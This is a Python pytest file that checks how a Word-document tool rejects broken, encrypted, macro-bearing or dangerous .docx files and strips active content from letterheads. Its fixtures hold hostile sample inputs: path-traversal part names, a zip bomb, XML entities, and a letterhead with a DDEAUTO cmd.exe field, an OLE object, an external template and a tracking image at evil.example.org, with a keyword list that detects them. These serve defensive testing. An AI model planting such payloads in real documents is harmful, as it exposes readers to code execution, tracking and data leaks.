"""What is no sound Word document gets one clear message; what is one keeps its bytes."""

from __future__ import annotations

import io
import warnings
import zipfile

import pytest

from coplan.errors import BadInput
from coplan.prose.markdown.read import read_markdown
from coplan.word.file.mark import DraftMark, read_mark
from coplan.word.file.package import OFFICE, TYPES, Package, open_package, related, relations_name, xml_bytes
from coplan.word.file.package import typed as with_type
from coplan.word.file.page_setup import text_width
from coplan.word.file.xml_names import R, W, w
from coplan.word.read.word_document import read_word
from coplan.word.track.pending import parse
from coplan.word.write.build import build
from coplan.word.write.word_look import Look
from tests.word.cases import opened, update

TEXT = '# Title & "more"\n\n## 1. Scope\n\nIt costs < $5 & more 🙂.\n\n1. one\n2. two\n\nText.\n\n1. again\n\n| A | B |\n| --- | --- |\n| 1 | 2 |\n'
SOUND = build(read_markdown(TEXT), Look("Title", "Cedar Valley", "2026-11-24"), DraftMark("memo", TEXT))


def with_parts(**changes: bytes | None) -> bytes:
    """The sound document with parts changed, added, or with None left out. `__` stands for a slash."""
    parts = {name.replace("__", "/"): content for name, content in changes.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(SOUND)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def typed(old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(SOUND)) as file:
        return with_parts(**{TYPES: file.read(TYPES).replace(old, new)})


def encrypted() -> bytes:
    """The sound document with the flag that says: this entry is encrypted. Twice for each entry, as zip has it."""
    content = bytearray(SOUND)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(sign)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(sign, at + 4)
    return bytes(content)


def doubled() -> bytes:
    """The sound document with a second text beside the first, under the same name."""
    out = io.BytesIO(SOUND)
    with zipfile.ZipFile(out, "a") as file, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        file.writestr("word/document.xml", b"<x/>")
    return out.getvalue()


def strict() -> bytes:
    with zipfile.ZipFile(io.BytesIO(SOUND)) as file:
        text = file.read("word/document.xml")
        relations = file.read("_rels/.rels")
    old, new = b"http://schemas.openxmlformats.org/", b"http://purl.oclc.org/ooxml/"
    text = text.replace(old + b"wordprocessingml/2006/main", new + b"wordprocessingml/main")
    relations = relations.replace(old + b"officeDocument/2006/relationships/", new + b"officeDocument/relationships/")
    return with_parts(**{"word/document.xml": text, "_rels/.rels": relations})


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
MAIN = b"wordprocessingml.document.main+xml"
BROKEN = {
    "empty": (b"", "this file is empty."),
    "a renamed PDF": (b"%PDF-1.7 ...", "this is a PDF with the name of a Word document."),
    "Word 2003": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "this is a document of Word 2003 or older."),
    "a password": (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "this file has a password."),
    "encrypted parts": (encrypted(), "this file has a password."),
    "two texts of one name": (doubled(), "holds a part with an unsound name: 'word/document.xml'"),
    "Strict Open XML": (strict(), "this is saved as Strict Open XML"),
    "just text": (b"hello", "this is not a Word document."),
    "cut off": (SOUND[: len(SOUND) // 2], "this Word document is damaged or cut off."),
    "too large": (b"PK" + b"\0" * 50_000_001, "is larger than 50 MB."),
    "macros": (with_parts(word__vbaProject__bin=None, **{"word/vbaProject.bin": b"x"}), "this file can hold macros."),
    "macro-enabled": (typed(MAIN, b"ms-word.document.macroEnabled.main+xml"), "this file can hold macros."),
    "a template": (typed(MAIN, b"wordprocessingml.template.main+xml"), "this is a Word template, not a document."),
    "a spreadsheet": (typed(MAIN, b"spreadsheetml.sheet.main+xml"), "this is a spreadsheet, not a Word document."),
    "an archive": (with_parts(**{TYPES: None}), "this is an archive, not a Word document."),
    "no text in it": (with_parts(word__document__xml=None, **{"word/document.xml": None}), "this is not a Word document."),
    "entities": (with_parts(**{"word/document.xml": DOCTYPE}), "declares entities"),
    "a path out": (with_parts(**{"../evil.xml": b"<x/>"}), "holds a part with an unsound name"),
    "an absolute path": (with_parts(**{"/etc/evil.xml": b"<x/>"}), "holds a part with an unsound name"),
    "a zip bomb": (with_parts(**{"word/media/a.bin": b"\0" * 65_000_000}), "unpacks to more than 64 MB."),
    "no end of tags": (with_parts(**{"word/document.xml": b"<w>" + b"<p/>" * 500_001 + b"</w>"}), "holds far more than any draft"),
}  # fmt: skip


@pytest.mark.parametrize("case", BROKEN)
def test_a_broken_file_gets_one_clear_message(case):
    content, words = BROKEN[case]
    with pytest.raises(BadInput) as caught:
        open_package(content, "memo.docx")
    [problem] = caught.value.problems
    assert str(problem).startswith("memo.docx: ")
    assert words in str(problem)


def test_opening_and_saving_keeps_every_byte():
    assert open_package(SOUND, "memo.docx").save() == SOUND


def test_the_same_blocks_give_the_same_file():
    assert build(read_markdown(TEXT), Look("Title", "Cedar Valley", "2026-11-24"), DraftMark("memo", TEXT)) == SOUND


def test_the_mark_comes_back():
    mark = read_mark(open_package(SOUND, "memo.docx"))
    assert mark
    assert (mark.document, mark.base, len(mark.ids)) == ("memo", TEXT, len(read_markdown(TEXT)))


def test_what_was_built_is_read_back():
    found = read_word(open_package(SOUND, "memo.docx"))
    assert [(b.kind, b.level, b.numbered, b.texts) for b in found.blocks] == [
        (b.kind, b.level, b.numbered, b.texts) for b in read_markdown(TEXT)
    ]
    assert found.unheld == ()


def test_each_numbered_list_begins_with_one():
    text = open_package(SOUND, "memo.docx").parts["word/document.xml"].decode()
    numbers = [piece.split('"')[0] for piece in text.split('<w:numId w:val="')[1:]]
    assert len(set(numbers)) == 3  # sections, the first list, the second one


def test_characters_that_xml_forbids_do_no_harm():
    blocks = read_markdown("# T\n\na\x0bb\x00c\n")
    package = open_package(build(blocks, Look("T"), DraftMark("memo", "a\x0bb")), "memo.docx")
    assert read_word(package).blocks[1].texts == ("a\ufffdb\ufffdc",)


@pytest.mark.parametrize(("paper", "width", "text"), [("letter", 12240, 9360), ("a4", 11906, 9026)])
def test_paper_is_letter_or_a4_and_tables_fill_the_text(paper, width, text):
    content = build(read_markdown(TEXT), Look("T", paper=paper), DraftMark("memo", TEXT))
    package = open_package(content, "memo.docx")
    assert f'w:w="{width}"' in package.parts["word/document.xml"].decode()
    assert table_widths(package) == [text]
    assert f'w:pos="{text}"' in package.parts["word/header1.xml"].decode()


def table_widths(package: Package) -> list[int]:
    tables = package.xml(package.main).iter(w("tbl"))
    return [sum(int(column.get(w("w"))) for column in table.iter(w("gridCol"))) for table in tables]


def test_a_table_that_an_update_brings_fills_the_text_of_peoples_page():
    people = open_package(
        build(read_markdown("# T\n\nText.\n"), Look("T", paper="a4"), DraftMark("memo", "# T\n\nText.\n")), "x"
    )
    assert table_widths(opened(update(people, "# T\n\nText.\n\n| A | B |\n| --- | --- |\n| 1 | 2 |\n"))) == [9026]


@pytest.mark.parametrize(
    "section",
    [None, "<w:sectPr/>", '<w:sectPr><w:pgSz w:w="500"/></w:sectPr>', '<w:sectPr><w:pgSz w:w="a"/></w:sectPr>'],
)
def test_a_page_that_says_nothing_of_use_is_letter(section):
    assert text_width(parse(section) if section else None) == 9360


def test_a_letterhead_keeps_its_header_and_gets_the_styles_that_it_lacks():
    from docx import Document
    from docx.shared import Inches

    document, out = Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = "County of Juniper"
    document.styles["Normal"].font.name = "Georgia"
    document.sections[0].left_margin, document.sections[0].top_margin = Inches(1.75), Inches(2)
    document.add_paragraph("Body that is dropped")
    document.save(out)
    look = Look("T", letterhead=out.getvalue(), letterhead_name="ours.docx")
    content = build(read_markdown(TEXT), look, DraftMark("memo", TEXT))
    made = Document(io.BytesIO(content))
    assert made.sections[0].header.paragraphs[0].text == "County of Juniper"
    assert table_widths(open_package(content, "x")) == [12240 - 2520 - 1800]
    assert (made.sections[0].left_margin, made.sections[0].top_margin) == (Inches(1.75), Inches(2))
    assert "Body that is dropped" not in [paragraph.text for paragraph in made.paragraphs]
    assert {"Draft Notice", "Hole", "Table Heading"} <= {style.name for style in made.styles}
    assert [made.styles[name].font.name for name in ("Normal", "Table Text", "Code Block")] == [
        "Georgia",
        None,
        "Consolas",
    ]
    assert [b.texts for b in read_word(open_package(content, "x")).blocks] == [b.texts for b in read_markdown(TEXT)]


EVIL_RELATIONS = [
    ("word/document.xml", "oleObject", "embeddings/o.bin", ""),
    ("word/document.xml", "aFChunk", "chunk.html", ""),
    ("word/document.xml", "comments", "comments.xml", ""),
    ("word/settings.xml", "attachedTemplate", "https://evil.example.org/t.dotm", "External"),
    ("word/header1.xml", "image", "https://evil.example.org/pixel.png", "External"),
    ("word/header1.xml", "oleObject", "embeddings/o.bin", ""),
    ("word/header1.xml", "hyperlink", "file://evil/share/x.exe", "External"),
    ("word/header1.xml", "hyperlink", "https://county.example.org", "External"),
    ("", "custom-properties", "docProps/custom.xml", ""),
]
EVIL_HEADER = (
    f'<w:hdr xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p><w:r><w:t>County of Juniper</w:t></w:r>'
    '<w:r><w:drawing><a:blip r:link="rIdE4"/></w:drawing></w:r>'
    '<w:r><w:object><o:OLEObject r:id="rIdE5"/></w:object></w:r>'
    '<w:hyperlink r:id="rIdE6"><w:r><w:t>Click</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rIdE7"><w:r><w:t>Our page</w:t></w:r></w:hyperlink>'
    '<w:r><w:instrText> INCLUDEPICTURE "https://evil.example.org/a.png" </w:instrText></w:r>'
    '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>'
)


def evil_letterhead() -> bytes:
    """A letterhead that would fetch, run and tell."""
    from docx import Document

    document, out = Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = "County"
    document.core_properties.author = "jdoe"
    document.save(out)
    package = open_package(out.getvalue(), "evil")
    settings = package.parts["word/settings.xml"].decode()
    inside = '<w:attachedTemplate r:id="rIdE3"/><w:documentProtection w:edit="readOnly"/></w:settings>'
    settings = settings.replace("</w:settings>", inside).replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
    if settings.count("xmlns:r=") > 1:
        settings = settings.replace(f'xmlns:r="{R}" ', "", 1)
    package = package.replaced(
        {
            "word/header1.xml": EVIL_HEADER.encode(),
            "word/settings.xml": settings.encode(),
            "word/embeddings/o.bin": b"MZ",
            "word/chunk.html": b"<script>",
            "word/comments.xml": f'<w:comments xmlns:w="{W}"/>'.encode(),
            "docProps/custom.xml": b"<p/>",
        }
    )
    for number, (part, kind, target, mode) in enumerate(EVIL_RELATIONS):
        package, made = related(package, part, f"{OFFICE}/{kind}", target)
        relations = relations_name(part)
        root = package.xml(relations)
        [item] = [item for item in root if item.get("Id") == made]
        item.set("Id", f"rIdE{number}")
        if mode:
            item.set("TargetMode", mode)
        package = package.replaced({relations: xml_bytes(root)})
    return with_type(package, "word/embeddings/o.bin", "application/vnd.openxmlformats-officedocument.oleObject").save()


def test_a_letterhead_brings_nothing_that_fetches_runs_or_tells():
    look = Look("T", letterhead=evil_letterhead(), letterhead_name="evil.docx")
    made = open_package(build(read_markdown(TEXT), look, DraftMark("memo", TEXT)), "x")
    everything = b"".join(made.parts.values())
    assert [
        name for name in made.parts if "embeddings" in name or name.endswith((".html", "custom.xml", "comments.xml"))
    ] == []
    for words in (
        b"evil",
        b"OLEObject",
        b"INCLUDEPICTURE",
        b"DDEAUTO",
        b"documentProtection",
        b"jdoe",
        b"attachedTemplate",
    ):
        assert words not in everything, words
    assert b"County of Juniper" in made.parts["word/header1.xml"]
    assert b"Our page" in made.parts["word/header1.xml"]
    used = {value for key, value in attributes(made, "word/header1.xml") if key.startswith(f"{{{R}}}")}
    there = {item.get("Id") for item in made.xml(relations_name("word/header1.xml"))}
    assert used == there == {"rIdE7"}


def attributes(package, part):
    return [pair for element in package.xml(part).iter() for pair in element.attrib.items()]


def test_every_part_has_a_type_and_no_type_is_without_its_part():
    package = open_package(SOUND, "memo.docx")
    named = [item.get("PartName", "").lstrip("/") for item in package.xml(TYPES)]
    endings = {item.get("Extension") for item in package.xml(TYPES)}
    assert {name for name in named if name} <= set(package.parts)
    assert all(part in named or part.rpartition(".")[2] in endings for part in package.parts if part != TYPES)


def test_a_letterhead_leaves_the_links_notes_and_earlier_headers_of_its_own_text_behind():
    from docx import Document

    document, out = Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = "First section"
    second = document.add_section()
    second.header.is_linked_to_previous = False
    second.header.paragraphs[0].text = "County of Juniper"
    document.part.relate_to("https://intranet.example.org/secret", f"{OFFICE}/hyperlink", is_external=True)
    document.save(out)
    package = open_package(out.getvalue(), "ours")
    notes = f'<w:footnotes xmlns:w="{W}">{{}}</w:footnotes>'.format(
        '<w:footnote w:type="separator" w:id="0"><w:p/></w:footnote>'
        '<w:footnote w:id="2"><w:p><w:r><w:t>A secret note</w:t></w:r></w:p></w:footnote>'
    )
    package = package.replaced({"word/footnotes.xml": notes.encode()})
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    package, _ = related(
        with_type(package, "word/footnotes.xml", kind), package.main, f"{OFFICE}/footnotes", "footnotes.xml"
    )
    package, link = related(package, "word/footnotes.xml", f"{OFFICE}/hyperlink", "https://secret.example.org")
    relations = package.parts[relations_name("word/footnotes.xml")].replace(
        b" Target=", b' TargetMode="External" Target='
    )
    noted = package.parts["word/footnotes.xml"].decode()
    noted = noted.replace("<w:r><w:t>A", f'<w:hyperlink r:id="{link}"><w:r><w:t>A').replace(
        "note</w:t></w:r>", "note</w:t></w:r></w:hyperlink>"
    )
    noted = noted.replace("<w:footnotes ", f'<w:footnotes xmlns:r="{R}" ', 1)
    package = package.replaced({relations_name("word/footnotes.xml"): relations, "word/footnotes.xml": noted.encode()})
    look = Look("T", letterhead=package.save(), letterhead_name="ours.docx")
    made = open_package(build(read_markdown(TEXT), look, DraftMark("memo", TEXT)), "x")
    everything = b"".join(made.parts.values())
    assert b"secret" not in everything
    assert b"First section" not in everything
    assert b"County of Juniper" in everything
    assert b'w:type="separator"' in made.parts["word/footnotes.xml"]


@pytest.mark.parametrize("letterhead", [None, SOUND])
def test_word_checks_the_spelling_of_a_paper_in_its_language(letterhead):
    look = Look("¿A quién llamo?", letterhead=letterhead, language="es")
    package = open_package(build(read_markdown("# ¿A quién llamo?\n"), look, DraftMark("card", "")), "card.docx")
    assert b'w:lang w:val="es-US"' in package.parts["word/styles.xml"]
    assert b"<dc:language>es-US</dc:language>" in package.parts["docProps/core.xml"]
